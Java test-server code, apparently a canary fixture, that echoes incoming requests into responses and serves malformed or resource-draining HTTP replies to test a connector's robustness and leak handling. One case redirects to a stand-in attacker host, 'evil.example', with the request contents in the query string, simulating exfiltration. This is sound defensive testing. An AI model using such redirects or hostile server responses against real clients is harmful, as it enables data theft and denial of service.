package io.connectorservice.canary;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;

import io.connectorservice.outbound.RawServer;

import static io.connectorservice.canary.EchoedRequest.encodeUrl;
import static io.connectorservice.canary.EchoedRequest.escapeJson;

/**
 * The behaviour of a service that echoes every request in its status line, its headers
 * and its body; the first segment of the path names the {@link Echo}.
 */
final class EchoingConversation implements RawServer.Conversation {

	private final String tokens;

	/**
	 * Creates the behaviour.
	 * @param tokens the members of a token response, for {@link Echo#TOKENS}
	 */
	EchoingConversation(String tokens) {
		this.tokens = tokens;
	}

	@Override
	public void answer(String text, Socket socket) throws IOException, InterruptedException {
		Echo echo = Echo.of(text);
		EchoedRequest request = new EchoedRequest(text);
		OutputStream out = socket.getOutputStream();
		switch (echo) {
			case HTML -> write(out, 200, "text/html", request.html());
			case XML -> write(out, 400, "application/xml", request.html());
			case BYTES -> write(out, 200, "application/octet-stream", request.bytes());
			case CONTENT_TYPE -> write(out, 200, "text/" + request.token(), request.json());
			case REDIRECT_ELSEWHERE -> out.write(redirect("https://evil.example/?k=" + encodeUrl(request.text())));
			case REDIRECT_LOOP -> out.write(redirect(Echo.REDIRECT_LOOP.path() + "/?k=" + encodeUrl(request.token())));
			case REASON_PHRASE ->
				out.write(RawServer.bytes("HTTP/1.1 500 " + request.token() + "\r\nContent-Length: 0\r\n\r\n"));
			case NO_HTTP -> out.write(RawServer.bytes("SSH-2.0-" + request.token() + "\r\n\r\n" + text));
			case HEADER_WITHOUT_COLON ->
				out.write(RawServer.bytes("HTTP/1.1 200 OK\r\n" + request.token() + "\r\n\r\n"));
			case BAD_CHUNK -> out.write(RawServer
				.bytes("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + request.token() + "\r\n" + text));
			case SHORT_BODY -> closeAfter(socket, head(200, "text/plain", request.token(), 100_000) + text);
			case CONTENT_ENCODING -> out.write(RawServer
				.bytes("HTTP/1.1 200 OK\r\nContent-Encoding: " + request.token() + "\r\nContent-Length: 1\r\n\r\nx"));
			case GZIP -> writeZippedResponse(out, 200, request, gzip(request.json()));
			case GZIP_500 -> writeZippedResponse(out, 500, request, gzip(request.json()));
			case FALSE_GZIP -> writeZippedResponse(out, 200, request, request.json());
			case LARGE_BODY -> writeLargeResponse(out, request);
			case ENDLESS_HEADERS -> RawServer.endlessly(out,
					RawServer.bytes("HTTP/1.1 200 OK\r\nX-A: " + request.token() + "\r\n"), 20_000);
			case STALLED -> {
				out.write(RawServer.bytes(head(200, "application/json", request.token(), 100_000) + text));
				Thread.sleep(30_000);
			}
			case SILENT -> Thread.sleep(30_000);
			case CLOSED -> socket.close();
			case TOKENS -> write(out, 200, "application/json", buildTokenResponse(request));
			default -> write(out, echo.status(), "application/json", request.json());
		}
	}

	private static void write(OutputStream out, int status, String type, byte[] body) throws IOException {
		String token = new EchoedRequest(new String(body, StandardCharsets.ISO_8859_1)).token();
		out.write(RawServer.bytes(head(status, type, token, body.length)));
		out.write(body);
	}

	private static String head(int status, String type, String value, int length) {
		return "HTTP/1.1 " + status + " Echo\r\nContent-Type: " + type + "\r\nETag: \"" + value + "\"\r\nLink: <"
				+ value + ">; rel=next\r\nWWW-Authenticate: Basic realm=\"" + value + "\"\r\nX-RateLimit-Remaining: "
				+ value + "\r\nRetry-After: " + value + "\r\nX-Request-Id: " + value + "\r\nLocation: /"
				+ encodeUrl(value) + "\r\nSet-Cookie: k=" + value + "\r\nContent-Length: " + length + "\r\n\r\n";
	}

	private static byte[] redirect(String location) {
		return RawServer.bytes("HTTP/1.1 302 Found\r\nLocation: " + location + "\r\nContent-Length: 0\r\n\r\n");
	}

	private static void closeAfter(Socket socket, String text) throws IOException {
		socket.getOutputStream().write(RawServer.bytes(text));
		socket.getOutputStream().flush();
		socket.close();
	}

	private static void writeZippedResponse(OutputStream out, int status, EchoedRequest request, byte[] body)
			throws IOException {
		out.write(RawServer.bytes("HTTP/1.1 " + status + " Echo\r\nContent-Type: application/json\r\nETag: \""
				+ request.token() + "\"\r\nContent-Encoding: gzip\r\nContent-Length: " + body.length + "\r\n\r\n"));
		out.write(body);
	}

	private static byte[] gzip(byte[] body) throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
			gzip.write(body);
		}
		return bytes.toByteArray();
	}

	private static void writeLargeResponse(OutputStream out, EchoedRequest request) throws IOException {
		byte[] piece = request.bytes();
		int times = (11 << 20) / piece.length;
		out.write(RawServer.bytes(head(200, "text/plain", request.token(), times * piece.length)));
		for (int i = 0; i < times; i++) {
			out.write(piece);
		}
	}

	// Scopes and unknown members are stored outside the secret store.
	private byte[] buildTokenResponse(EchoedRequest request) {
		String echo = new String(request.json(), StandardCharsets.ISO_8859_1);
		String body = escapeJson(request.body());
		return RawServer.bytes("{" + this.tokens + ",\"scope\":\"read " + body + " " + escapeJson(request.token())
				+ "\",\"instance_url\":\"" + body + "\"," + echo.substring(1));
	}

}
